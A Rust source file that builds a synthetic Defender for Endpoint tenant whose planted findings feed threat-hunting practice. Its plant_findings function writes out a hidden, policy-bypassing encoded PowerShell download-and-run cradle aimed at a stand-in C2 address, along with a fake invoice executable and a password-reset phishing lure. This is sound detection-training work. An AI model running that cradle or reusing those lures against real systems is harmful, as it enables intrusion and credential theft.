//! The synthetic tenant's cast: devices, people and the planted findings. Every part of the
//! emulator derives from one `World` — the machines API, the incidents and alerts, and the
//! advanced-hunting tables — so the same device id, device name, account and hash appear
//! everywhere, as they do in a real tenant. Deterministic for a given seed.

use chrono::{DateTime, Duration, Utc};
use serde::{Deserialize, Serialize};

use super::rng::Rng;

/// The tenant's DNS domain (RFC 2606 `.example`, so nothing in it can resolve).
pub const TENANT_DOMAIN: &str = "contoso.example";
/// Windows NetBIOS domain of the synthetic tenant.
pub const NETBIOS_DOMAIN: &str = "CONTOSO";

/// An onboarded device (a Defender for Endpoint machine).
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(rename_all = "camelCase")]
pub struct Device {
    /// 40 lowercase hex digits, the MDE machine id and the hunting `DeviceId`.
    pub id: String,
    /// FQDN, lowercase: the hunting `DeviceName` and the MDE `computerDnsName`.
    pub name: String,
    /// MDE `osPlatform`, e.g. `Windows11`, `WindowsServer2022`, `Linux`.
    pub os_platform: String,
    /// MDE `version`, e.g. `23H2`.
    pub os_version: String,
    /// MDE `osBuild`.
    pub os_build: i64,
    /// `x64` etc.
    pub os_processor: String,
    /// Last internal IP address.
    pub ip_address: String,
    /// Last external IP address.
    pub external_ip_address: String,
    /// MAC address, 12 uppercase hex digits (MDE spelling).
    pub mac_address: String,
    /// Entra device id (GUID).
    pub aad_device_id: String,
    /// `Workstation`, `Server`.
    pub device_type: String,
    /// MDE `riskScore`: None, Informational, Low, Medium, High.
    pub risk_score: String,
    /// MDE `exposureLevel`: None, Low, Medium, High.
    pub exposure_level: String,
    /// MDE `healthStatus`.
    pub health_status: String,
    /// MDE `rbacGroupName` / `rbacGroupId`.
    pub rbac_group_name: String,
    pub rbac_group_id: i64,
    /// MDE `machineTags`.
    pub machine_tags: Vec<String>,
    /// The person who mostly uses this device (index into `World::people`), if any.
    pub primary_user: Option<usize>,
    /// How long before the world's anchor time the device was first seen.
    pub first_seen_days_ago: i64,
}

/// A person in the tenant (an account in the hunting tables; not a sign-in of the emulator's
/// identity platform, whose users are registered separately).
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(rename_all = "camelCase")]
pub struct Person {
    /// sAMAccountName, lowercase, e.g. `bjones`.
    pub account_name: String,
    /// Display name, e.g. `Bob Jones`.
    pub display_name: String,
    /// UPN, e.g. `bob.jones@contoso.example`.
    pub upn: String,
    /// On-premises SID.
    pub sid: String,
    /// Entra object id (GUID).
    pub object_id: String,
    /// Department, for colour.
    pub department: String,
}

/// Encoded PowerShell launched from an Office document: the classic hunt.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct EncodedPowerShell {
    pub device: usize,
    pub person: usize,
    /// The full `ProcessCommandLine`, with `-EncodedCommand`'s short form `-enc`.
    pub command_line: String,
    /// The decoded script, for reports and tests.
    pub decoded: String,
    /// Minutes before the anchor of each launch (newest first).
    pub minutes_ago: Vec<i64>,
    /// The command-and-control address the script downloads from.
    pub c2_ip: String,
    pub c2_url: String,
}

/// A file whose hash is on a block list.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct KnownBadFile {
    pub device: usize,
    pub person: usize,
    pub file_name: String,
    pub folder_path: String,
    pub sha1: String,
    pub sha256: String,
    pub md5: String,
    pub file_size: i64,
    pub minutes_ago: i64,
}

/// Many failed sign-ins followed by a success, from one external address.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct BruteForce {
    /// The targeted account.
    pub person: usize,
    /// The device the logons hit (a domain controller / RDP server).
    pub device: usize,
    pub source_ip: String,
    pub failed_attempts: u32,
    /// Whether the burst ends in a successful logon.
    pub succeeded: bool,
    /// Minutes before the anchor when the burst started; it lasts about ten minutes.
    pub minutes_ago: i64,
}

/// A delivered phishing mail with a credential-harvesting link.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct Phishing {
    pub recipient: usize,
    pub sender_address: String,
    pub sender_display_name: String,
    pub sender_ip: String,
    pub subject: String,
    pub url: String,
    pub network_message_id: String,
    pub internet_message_id: String,
    pub minutes_ago: i64,
}

/// The planted findings the example playbooks hunt for.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct Findings {
    pub encoded_powershell: EncodedPowerShell,
    pub known_bad_file: KnownBadFile,
    pub brute_force: BruteForce,
    pub phishing: Phishing,
}

/// The synthetic tenant's cast.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct World {
    pub seed: u64,
    /// The tenant (directory) id: a GUID, also the `tid` of issued tokens.
    pub tenant_id: String,
    /// "Now" for the data set: event times are generated relative to it. The emulator's start.
    pub anchor: DateTime<Utc>,
    pub devices: Vec<Device>,
    pub people: Vec<Person>,
    pub findings: Findings,
}

const FIRST: &[&str] = &[
    "Alice", "Bob", "Carol", "Dave", "Erin", "Frank", "Grace", "Heidi", "Ivan", "Judy", "Mallory",
    "Niaj", "Olivia", "Peggy", "Rupert", "Sybil", "Trent", "Victor", "Walter", "Yara",
];
const LAST: &[&str] = &[
    "Jones", "Smith", "Nguyen", "Garcia", "Okafor", "Schmidt", "Rossi", "Kowalski", "Tanaka",
    "Dubois", "Silva", "Novak", "Haddad", "Larsen", "Moreau",
];
const DEPARTMENTS: &[&str] = &[
    "Finance",
    "Engineering",
    "Sales",
    "HR",
    "IT",
    "Legal",
    "Marketing",
];

impl World {
    /// Generate the default cast for `seed`, anchored at `anchor`.
    #[must_use]
    pub fn generate(seed: u64, anchor: DateTime<Utc>) -> World {
        let people = generate_people(seed);
        let devices = generate_devices(seed, people.len());
        let findings = plant_findings(seed, &devices, &people);
        let tenant_id = Rng::new(seed, "tenant").guid();
        World {
            seed,
            tenant_id,
            anchor,
            devices,
            people,
            findings,
        }
    }

    /// Replace the generated devices and/or people (from a `--data` file) and re-plant the
    /// findings on the new cast, so they still point at existing devices and people.
    #[must_use]
    pub fn with_cast(mut self, devices: Option<Vec<Device>>, people: Option<Vec<Person>>) -> World {
        if let Some(d) = devices {
            self.devices = d;
        }
        if let Some(p) = people {
            self.people = p;
        }
        if !self.devices.is_empty() && !self.people.is_empty() {
            self.findings = plant_findings(self.seed, &self.devices, &self.people);
        }
        self
    }

    /// The device with this MDE machine id.
    #[must_use]
    pub fn device(&self, id: &str) -> Option<&Device> {
        self.devices.iter().find(|d| d.id == id)
    }

    /// The time `minutes` before the anchor.
    #[must_use]
    pub fn minutes_ago(&self, minutes: i64) -> DateTime<Utc> {
        self.anchor - Duration::minutes(minutes)
    }
}

fn generate_people(seed: u64) -> Vec<Person> {
    let mut rng = Rng::new(seed, "people");
    let domain_sid = format!(
        "S-1-5-21-{}-{}-{}",
        rng.range(1_000_000_000, 3_999_999_999),
        rng.range(1_000_000_000, 3_999_999_999),
        rng.range(1_000_000_000, 3_999_999_999)
    );
    let mut people = Vec::new();
    let mut used = std::collections::BTreeSet::new();
    // Fixed first names in a fixed order, so "Bob" is always person 1 whatever the seed:
    // docs and tests can say "Bob's laptop". Last names and ids vary with the seed.
    for (i, first) in FIRST.iter().take(14).enumerate() {
        let last = rng.pick(LAST).copied().unwrap_or("Jones");
        let mut account = format!("{}{}", &first[..1], last).to_lowercase();
        while !used.insert(account.clone()) {
            account.push('2');
        }
        people.push(Person {
            display_name: format!("{first} {last}"),
            upn: format!(
                "{}.{}@{TENANT_DOMAIN}",
                first.to_lowercase(),
                last.to_lowercase()
            ),
            sid: format!("{domain_sid}-{}", 1104 + i),
            object_id: rng.guid(),
            department: rng.pick(DEPARTMENTS).copied().unwrap_or("IT").to_string(),
            account_name: account,
        });
    }
    people
}

fn generate_devices(seed: u64, people: usize) -> Vec<Device> {
    let mut rng = Rng::new(seed, "devices");
    let mut devices = Vec::new();
    let mut push = |rng: &mut Rng,
                    name: &str,
                    platform: &str,
                    version: &str,
                    build: i64,
                    kind: &str,
                    user: Option<usize>,
                    group: (&str, i64)| {
        let ip = format!(
            "10.{}.{}.{}",
            rng.range(1, 3),
            rng.range(0, 254),
            rng.range(10, 250)
        );
        devices.push(Device {
            id: rng.hex(40),
            name: format!("{name}.corp.{TENANT_DOMAIN}"),
            os_platform: platform.to_string(),
            os_version: version.to_string(),
            os_build: build,
            os_processor: "x64".to_string(),
            ip_address: ip,
            external_ip_address: format!("198.51.100.{}", rng.range(2, 250)),
            mac_address: rng.hex(12).to_uppercase(),
            aad_device_id: rng.guid(),
            device_type: kind.to_string(),
            risk_score: rng
                .pick(&["None", "Low", "Low", "Medium"])
                .copied()
                .unwrap_or("Low")
                .to_string(),
            exposure_level: rng
                .pick(&["Low", "Medium"])
                .copied()
                .unwrap_or("Low")
                .to_string(),
            health_status: "Active".to_string(),
            rbac_group_name: group.0.to_string(),
            rbac_group_id: group.1,
            machine_tags: Vec::new(),
            primary_user: user,
            first_seen_days_ago: rng.range(40, 400),
        });
    };
    for i in 0..12usize {
        let (platform, version, build) = if i % 3 == 2 {
            ("Windows10", "22H2", 19045)
        } else {
            ("Windows11", "23H2", 22631)
        };
        let name = format!("ws-{:03}", i + 1);
        let user = if people == 0 { None } else { Some(i % people) };
        push(
            &mut rng,
            &name,
            platform,
            version,
            build,
            "Workstation",
            user,
            ("Workstations", 11),
        );
    }
    push(
        &mut rng,
        "srv-dc01",
        "WindowsServer2022",
        "21H2",
        20348,
        "Server",
        None,
        ("Servers", 12),
    );
    push(
        &mut rng,
        "srv-file01",
        "WindowsServer2019",
        "1809",
        17763,
        "Server",
        None,
        ("Servers", 12),
    );
    push(
        &mut rng,
        "srv-web01",
        "Linux",
        "Ubuntu 22.04",
        0,
        "Server",
        None,
        ("Servers", 12),
    );
    push(
        &mut rng,
        "srv-sql01",
        "WindowsServer2022",
        "21H2",
        20348,
        "Server",
        None,
        ("Servers", 12),
    );
    devices
}

/// Base64 of the UTF-16LE bytes of `script`: what `powershell -EncodedCommand` expects.
#[must_use]
pub fn powershell_encode(script: &str) -> String {
    use base64::Engine as _;
    let bytes: Vec<u8> = script.encode_utf16().flat_map(u16::to_le_bytes).collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

fn plant_findings(seed: u64, devices: &[Device], people: &[Person]) -> Findings {
    let mut rng = Rng::new(seed, "findings");
    let n_dev = devices.len().max(1);
    let n_people = people.len().max(1);
    // Prefer the documented roles (workstation 7 = Bob's ... ) but stay in range for small casts.
    let ps_device = 6 % n_dev;
    let ps_person = 1 % n_people;
    let c2_ip = format!("203.0.113.{}", rng.range(10, 250));
    let c2_url = format!("http://{c2_ip}/update/a.ps1");
    let decoded = format!("IEX (New-Object Net.WebClient).DownloadString('{c2_url}')");
    let command_line = format!(
        "powershell.exe -NoProfile -WindowStyle Hidden -ExecutionPolicy Bypass -enc {}",
        powershell_encode(&decoded)
    );
    let bad_device = 2 % n_dev;
    let bad_person = devices
        .get(bad_device)
        .and_then(|d| d.primary_user)
        .unwrap_or(2 % n_people);
    let dc = devices
        .iter()
        .position(|d| d.name.starts_with("srv-dc"))
        .unwrap_or(n_dev - 1);
    Findings {
        encoded_powershell: EncodedPowerShell {
            device: ps_device,
            person: ps_person,
            command_line,
            decoded,
            minutes_ago: vec![37, 95, 250],
            c2_ip,
            c2_url,
        },
        known_bad_file: KnownBadFile {
            device: bad_device,
            person: bad_person,
            file_name: "Invoice_2026-11.pdf.exe".to_string(),
            folder_path: format!(
                "C:\\Users\\{}\\Downloads\\Invoice_2026-11.pdf.exe",
                people
                    .get(bad_person)
                    .map_or("user", |p| p.account_name.as_str())
            ),
            sha1: rng.hex(40),
            sha256: rng.hex(64),
            md5: rng.hex(32),
            file_size: rng.range(300_000, 900_000),
            minutes_ago: 180,
        },
        brute_force: BruteForce {
            person: 2 % n_people,
            device: dc,
            source_ip: format!("192.0.2.{}", rng.range(10, 250)),
            failed_attempts: 48,
            succeeded: true,
            minutes_ago: 300,
        },
        phishing: Phishing {
            recipient: 3 % n_people,
            sender_address: "it-support@contoso-helpdesk.example".to_string(),
            sender_display_name: "IT Support".to_string(),
            sender_ip: format!("198.18.{}.{}", rng.range(0, 255), rng.range(1, 254)),
            subject: "Action required: your password expires today".to_string(),
            url: "https://contoso-helpdesk.example/reset?u=".to_string() + &rng.hex(12),
            network_message_id: rng.guid(),
            internet_message_id: format!("<{}@contoso-helpdesk.example>", rng.hex(24)),
            minutes_ago: 420,
        },
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;

    pub(crate) fn anchor() -> DateTime<Utc> {
        DateTime::parse_from_rfc3339("2026-11-25T12:00:00Z")
            .map(|d| d.with_timezone(&Utc))
            .unwrap_or_default()
    }

    #[test]
    fn generation_is_deterministic() {
        assert_eq!(World::generate(42, anchor()), World::generate(42, anchor()));
        assert_ne!(
            World::generate(42, anchor()).devices[0].id,
            World::generate(43, anchor()).devices[0].id
        );
    }

    #[test]
    fn findings_point_at_existing_cast() {
        let w = World::generate(1, anchor());
        let f = &w.findings;
        assert!(f.encoded_powershell.device < w.devices.len());
        assert!(f.known_bad_file.person < w.people.len());
        assert!(w.devices[f.brute_force.device].name.starts_with("srv-dc01"));
        assert!(f.encoded_powershell.command_line.contains(" -enc "));
    }

    #[test]
    fn device_ids_are_40_hex_and_unique() {
        let w = World::generate(5, anchor());
        let mut ids: Vec<_> = w.devices.iter().map(|d| d.id.clone()).collect();
        assert!(
            ids.iter()
                .all(|i| i.len() == 40 && i.chars().all(|c| c.is_ascii_hexdigit()))
        );
        ids.sort();
        ids.dedup();
        assert_eq!(ids.len(), w.devices.len());
    }

    #[test]
    fn encoded_command_decodes() {
        use base64::Engine as _;
        let enc = powershell_encode("Write-Host hi");
        let bytes = base64::engine::general_purpose::STANDARD
            .decode(enc)
            .unwrap_or_default();
        let units: Vec<u16> = bytes
            .chunks(2)
            .map(|c| u16::from_le_bytes([c[0], c[1]]))
            .collect();
        assert_eq!(String::from_utf16_lossy(&units), "Write-Host hi");
    }

    #[test]
    fn smaller_cast_keeps_findings_in_range() {
        let w = World::generate(1, anchor());
        let small = w
            .clone()
            .with_cast(Some(w.devices[..2].to_vec()), Some(w.people[..1].to_vec()));
        assert!(small.findings.encoded_powershell.device < 2);
        assert_eq!(small.findings.brute_force.person, 0);
    }
}
